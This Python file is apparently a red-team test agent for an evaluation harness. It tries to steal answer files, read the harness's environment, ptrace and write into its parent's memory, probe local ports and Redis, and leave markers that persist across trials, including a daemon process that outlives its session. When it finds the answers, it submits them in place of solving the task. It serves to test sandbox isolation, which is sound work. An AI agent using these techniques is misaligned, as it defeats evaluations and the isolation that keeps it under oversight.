"""A hostile external agent: it hunts the disk and the harness for the answers instead of solving its task.

It is told where everything is ($HOSTILE_TARGETS, JSON: home, files, harness_pid, search), the
strongest attacker a test can make. It tries to list the home folder, read each file (release tasks.jsonl,
world.sqlite, seed Parquet, the task file given to the harness), read the harness's and its
parent's /proc environ and cmdline, and (if `search`) walks every folder it can see for task,
world and seed files. If it got a task file, it replays that task's reference solution over MCP and
submits the reference answer; otherwise it submits what it tried, as JSON, for the test to audit.

Given `mark` (a token) in its targets it also goes for what the boundary keeps apart (`trespass`): its parent's
memory (ptrace, /proc/PPID/mem, maps, environ), every host loopback port in `ports` and Redis's 6379, the outside
network, and what /proc/net/tcp shows it. Then it looks for a marker an earlier trial left (`carried`) and leaves
its own for the next trial, everywhere it could: in its parent's memory (which a zygote's next child would
inherit), /dev/shm, /tmp, its home and the folder above it, a process left running with an abstract Unix socket,
a System V shared memory segment and a POSIX message queue. With --serve it speaks the persistent protocol.
"""
from __future__ import annotations

import asyncio
import ctypes
import json
import os
import socket
import sys
import time

from mcp import Client

WANTED = ("tasks.jsonl", "world.sqlite", "manifest.json")
UNSEARCHED = ("/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix)  # no answers in the system or Python


def attempt(what: str, read) -> dict:
    try:
        return {"what": what, "ok": True, "data": read()}
    except OSError as exc:
        return {"what": what, "ok": False, "error": f"{type(exc).__name__}: {exc}"}


def text(path: str) -> str:
    with open(path, "rb") as f:
        return f.read(100_000).decode(errors="replace")


def search() -> list[str]:
    found = []
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(UNSEARCHED)]
        found += [os.path.join(root, f) for f in files if f in WANTED or f.endswith(".parquet")]
    return found


def hunt(targets: dict) -> list[dict]:
    tried = [attempt(f"list {targets['home']}", lambda: os.listdir(targets["home"]))]
    tried += [attempt(f"read {path}", lambda path=path: text(path)) for path in targets["files"]]
    for pid in (targets["harness_pid"], os.getppid()):
        tried += [attempt(f"read /proc/{pid}/{part}", lambda p=f"/proc/{pid}/{part}": text(p))
                  for part in ("environ", "cmdline")]
    if targets["search"]:
        tried.append({"what": "search the disk", "ok": True, "data": search()})
    return tried


def stolen_task(tried: list[dict], trigger: str) -> dict | None:
    """The record of this very task, from any task file it managed to read."""
    for result in tried:
        if result["ok"] and result["what"].endswith("tasks.jsonl"):
            for line in result["data"].splitlines():
                if line.strip() and json.loads(line)["trigger"]["text"] == trigger:
                    return json.loads(line)
    return None


LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE = 0x4206
MARK_NAME = "hostile-mark"
SHM_KEY, SHM_SIZE = 0x486F7374, 4096
O_RDONLY, O_CREAT, O_RDWR = 0, 0o100, 0o2


def attempt_c(what: str, call) -> dict:
    """A C call that returns -1 on failure, as attempt() reports it."""
    result = call()
    if result == -1 or result is None:
        errno = ctypes.get_errno()
        return {"what": what, "ok": False, "error": f"errno {errno}: {os.strerror(errno)}"}
    return {"what": what, "ok": True, "data": result}


def env_block(pid: int) -> tuple[int, int]:
    """Where a process's environment strings lie in its memory (/proc/PID/stat fields 50 and 51: 0 to a reader
    without ptrace access)."""
    fields = text(f"/proc/{pid}/stat").rsplit(")", 1)[1].split()
    return int(fields[47]), int(fields[48])


def write_parent_env(ppid: int, mark: str) -> str:
    """Overwrite the start of the parent's environment strings with the marker: a zygote's next child inherits
    that memory, and /proc/self/environ shows it to the next trial."""
    start, end = env_block(ppid)
    data = f"{MARK_NAME}={mark}\0".encode()
    if not start or end - start < len(data):
        raise PermissionError(f"no address of the parent's environment to write (start {start})")
    with open(f"/proc/{ppid}/mem", "r+b", buffering=0) as mem:
        mem.seek(start)
        mem.write(data)
    return "written"


def read_parent_mem(ppid: int) -> str:
    start, _ = env_block(ppid)
    with open(f"/proc/{ppid}/mem", "rb", buffering=0) as mem:
        mem.seek(start or 0x400000)
        return mem.read(64).decode(errors="replace")


def connect(port: int, host: str = "127.0.0.1", hello: bytes = b"") -> str:
    with socket.create_connection((host, port), timeout=1.0) as conn:
        if hello:
            conn.sendall(hello)
            return conn.recv(100).decode(errors="replace")
        return "connected"


def listening() -> list[int]:
    """The TCP ports this network namespace listens on, from /proc/net/tcp (state 0A)."""
    lines = text("/proc/net/tcp").splitlines()[1:]
    return sorted({int(f[1].split(":")[1], 16) for f in (line.split() for line in lines) if f[3] == "0A"})


def trespass(targets: dict) -> list[dict]:
    """Its parent's memory and every network service but its own tool endpoint."""
    ppid, own = os.getppid(), int(os.environ["EVALSUITE_MCP_URL"].split(":")[2].split("/")[0])
    tried = [attempt_c(f"ptrace seize parent {ppid}", lambda: LIBC.ptrace(PTRACE_SEIZE, ppid, 0, 0) + 1 or None)]
    tried += [attempt(f"read /proc/{ppid}/{part}", lambda p=f"/proc/{ppid}/{part}": text(p))
              for part in ("maps", "environ")]
    tried.append(attempt(f"read /proc/{ppid}/mem", lambda: read_parent_mem(ppid)))
    ports = sorted(set(targets.get("ports", [])) - {own})
    tried += [attempt(f"connect 127.0.0.1:{port}", lambda port=port: connect(port)) for port in ports]
    tried.append(attempt("redis PING 127.0.0.1:6379", lambda: connect(6379, hello=b"PING\r\n")))
    tried.append(attempt("connect 1.1.1.1:80 (outside)", lambda: connect(80, "1.1.1.1")))
    tried.append({"what": "listening in /proc/net/tcp", "ok": True, "data": listening(), "own": own})
    return tried


def mark_paths() -> list[str]:
    home = os.environ["HOME"]
    return [f"/dev/shm/{MARK_NAME}", f"/tmp/{MARK_NAME}", f"{home}/{MARK_NAME}",
            f"{os.path.dirname(home.rstrip('/'))}/{MARK_NAME}", f"/home/agent/{MARK_NAME}"]


def shm(create: bool) -> int:
    return LIBC.shmget(SHM_KEY, SHM_SIZE, (0o1000 | 0o600) if create else 0)  # IPC_CREAT


def read_shm() -> str:
    ident = shm(False)
    if ident == -1:
        raise FileNotFoundError("no segment")
    LIBC.shmat.restype = ctypes.c_void_p
    return ctypes.string_at(LIBC.shmat(ident, None, 0), 64).split(b"\0")[0].decode()


def write_shm(mark: str) -> str:
    ident = shm(True)
    if ident == -1:
        raise PermissionError(ctypes.get_errno(), "shmget")
    LIBC.shmat.restype = ctypes.c_void_p
    ctypes.memmove(LIBC.shmat(ident, None, 0), mark.encode() + b"\0", len(mark) + 1)
    return "written"


def mqueue(flags: int) -> int:
    rt = ctypes.CDLL("librt.so.1", use_errno=True)
    return rt.mq_open(f"/{MARK_NAME}".encode(), flags, 0o600, None)


def linger(mark: str) -> str:
    """A process that leaves its session and outlives the trial, answering the marker on an abstract socket."""
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(f"\0{MARK_NAME}")
    listener.listen(4)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            listener.settimeout(120)
            for _ in range(4):
                conn, _ = listener.accept()
                conn.sendall(mark.encode())
                conn.close()
        os._exit(0)
    listener.close()
    return "left running"


def read_linger() -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
        conn.settimeout(1.0)
        conn.connect(f"\0{MARK_NAME}")
        return conn.recv(100).decode()


def environ_mark() -> str:
    found = [e for e in text("/proc/self/environ").split("\0") if e.startswith(MARK_NAME + "=")]
    if not found:
        raise FileNotFoundError("no marker in /proc/self/environ")
    return found[0]


def carried() -> list[dict]:
    """A marker an earlier trial left, wherever it could have left one."""
    found = [attempt(f"read {path}", lambda path=path: text(path)) for path in mark_paths()]
    found += [attempt("marker in /proc/self/environ (the parent's memory)", environ_mark),
              attempt("abstract socket of a process left running", read_linger),
              attempt("System V shared memory", read_shm),
              attempt_c("POSIX message queue", lambda: mqueue(O_RDONLY) + 1 or None)]
    return found


def leave(mark: str) -> list[dict]:
    left = [attempt(f"write {path}", lambda path=path: open(path, "w").write(mark)) for path in mark_paths()]
    left += [attempt("write into the parent's memory", lambda: write_parent_env(os.getppid(), mark)),
             attempt("leave a process running", lambda: linger(mark)),
             attempt("System V shared memory", lambda: write_shm(mark)),
             attempt_c("POSIX message queue", lambda: mqueue(O_CREAT | O_RDWR) + 1 or None)]
    return left


async def main() -> None:
    targets = json.loads(os.environ["HOSTILE_TARGETS"])
    tried = hunt(targets)
    report = {"tried": tried, "env": dict(os.environ)}
    if "mark" in targets:
        report |= {"trespass": trespass(targets), "carried": carried(), "left": leave(f"{targets['mark']}:"
                                                                                      f"{time.time()}")}
    async with Client(os.environ["EVALSUITE_MCP_URL"]) as client:
        task = json.loads((await client.call_tool("get_task", {})).content[0].text)
        record = stolen_task(tried, task["trigger_text"])
        if record is not None:  # the answers were readable: replay them
            for call in record["reference_solution"]:
                await client.call_tool(call["tool"], call["arguments"])
        answer = record["reference_answer"] if record is not None else json.dumps(report)
        await client.call_tool("submit_answer", {"message": answer})


def serve() -> None:
    """The persistent protocol: each trial as a process-per-trial agent would run it, in this one process."""
    for line in sys.stdin:
        request = json.loads(line)
        os.environ.update({"EVALSUITE_MCP_URL": request["url"], "HOME": request["home"], "TMPDIR": request["tmp"]})
        try:
            asyncio.run(main())
            reply = {"trial": request["trial"], "exit": 0, "output": ""}
        except Exception as exc:  # this trial's failure, in its reply
            reply = {"trial": request["trial"], "exit": 1, "output": f"{type(exc).__name__}: {exc}"}
        print(json.dumps(reply), flush=True)


if __name__ == "__main__":
    serve() if sys.argv[1:] == ["--serve"] else asyncio.run(main())
